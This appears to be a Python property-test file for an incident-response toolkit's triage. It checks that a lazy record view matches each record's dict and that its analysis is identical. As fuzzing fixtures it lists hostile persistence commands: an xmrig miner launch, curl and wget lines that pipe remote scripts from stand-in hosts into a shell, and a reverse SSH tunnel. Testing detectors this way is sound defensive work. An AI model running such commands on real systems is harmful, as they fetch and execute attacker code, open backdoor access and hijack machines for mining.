"""The triage reads its records through `RecordFields` (fields made when read) instead of
holding a dict of every record: each field must be the record's `to_dict` value, and the
analysis of records read that way must be the analysis of their dicts (property tests on
random records; the triage's whole output on a tree with planted miners was compared with
the code before by hand, docs/performance.md)."""

from dataclasses import asdict
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from minersample import synthetic_monero_wallet

from irkit.analysis.heuristics import _checked, _normalise, analyse
from irkit.analysis.startfiles import StartedConfig
from irkit.collectors.persistence import PersistenceRecord
from irkit.evidence.view import RecordFields
from irkit.playbook import AnalysisSettings
from tests.hostile.fuzzing import fuzz_settings

WALLET = synthetic_monero_wallet()
COMMANDS = [
    "/usr/local/bin/task --opt 0.5 >/dev/null 2>&1",
    f"/opt/.m/xmrig -o stratum+tcp://pool.example:3333 -u {WALLET} -p x",
    "/opt/.m/xmrig -c $CFG",
    "curl -fsSL http://203.0.113.7/x.sh | sh",
    "ssh -N -R 2222:localhost:22 tun@198.51.100.9",
    "wget -q -O- 'https://evil.example/i sh' | bash",
    "/usr/bin/t-rex --url pool.example:4444",
]
texts = st.one_of(st.sampled_from(COMMANDS), st.text(max_size=40))
optional_texts = st.none() | texts
details = st.dictionaries(
    st.sampled_from(["environment", "interpreter", "user", "unit"]),
    st.none() | texts | st.lists(texts, max_size=2) | st.dictionaries(texts, texts, max_size=2),
    max_size=3,
)
persistence = st.builds(
    PersistenceRecord,
    mechanism=st.sampled_from(["cron", "systemd", "rc.local", "ld.so.preload", "?"]),
    source=st.sampled_from(["/etc/cron.d/a", "/etc/crontab", "/etc/rc.local"]),
    line=st.none() | st.integers(0, 50),
    owner=optional_texts,
    schedule=optional_texts,
    command=optional_texts,
    mtime=st.none() | st.just("2026-12-01T00:00:00Z"),
    member=st.none() | st.just("files/etc/cron.d/a"),
    detail=details,
)
configs = st.builds(
    StartedConfig,
    path=st.just("/opt/.m/c.json"),
    how=st.just("beside the program it starts"),
    pid=st.none() | st.integers(1, 5),
    entry=st.none() | st.sampled_from(["/etc/cron.d/a:1", "/etc/crontab:2"]),
    member=st.none() | st.just("files/opt/.m/c.json"),
    iocs=st.lists(st.fixed_dictionaries({"kind": st.just("pool-url"), "value": texts}), max_size=2),
    log=optional_texts,
)
records = st.lists(st.one_of(persistence, configs), max_size=12)


@fuzz_settings(300)
@given(st.one_of(persistence, configs))
def test_each_field_is_the_dicts(record: Any) -> None:
    fields = RecordFields(record)
    expected = record.to_dict()
    assert dict(fields) == expected
    assert dict(fields.items()) == expected
    assert list(fields) == list(expected)
    assert len(fields) == len(expected)
    for name, value in expected.items():
        assert fields.get(name) == value
        assert fields[name] == value
    assert fields.get("no such field") is None
    assert fields.get("no such field", 7) == 7
    with pytest.raises(KeyError):
        fields["no such field"]


@fuzz_settings(200)
@given(records)
def test_the_analysis_of_fields_is_the_analysis_of_dicts(items: list[Any]) -> None:
    settings = AnalysisSettings()
    by_fields = analyse([RecordFields(r) for r in items], settings)
    by_dicts = analyse([r.to_dict() for r in items], settings)
    assert asdict(by_fields) == asdict(by_dicts)


values = st.one_of(
    st.none(), st.booleans(), st.integers(-2, 2), st.floats(allow_nan=False), texts,
    st.lists(texts, max_size=2), st.dictionaries(texts, texts, max_size=2),
)  # fmt: skip
FIELDS = ["mechanism", "command", "source", "line", "member", "mtime", "pid", "x", "cmdline"]


@fuzz_settings(500)
@given(st.dictionaries(st.sampled_from(FIELDS), values), st.sampled_from(FIELDS[:-2]))
def test_a_checked_field_is_the_normalised_records(record: dict[str, Any], key: str) -> None:
    """A bundle's persistence entry may hold any JSON in any field: the field the analysis
    reads is what the whole record's normalised copy holds (lists aside: none is read so)."""
    assert _checked(record, key) == _normalise(record).get(key)
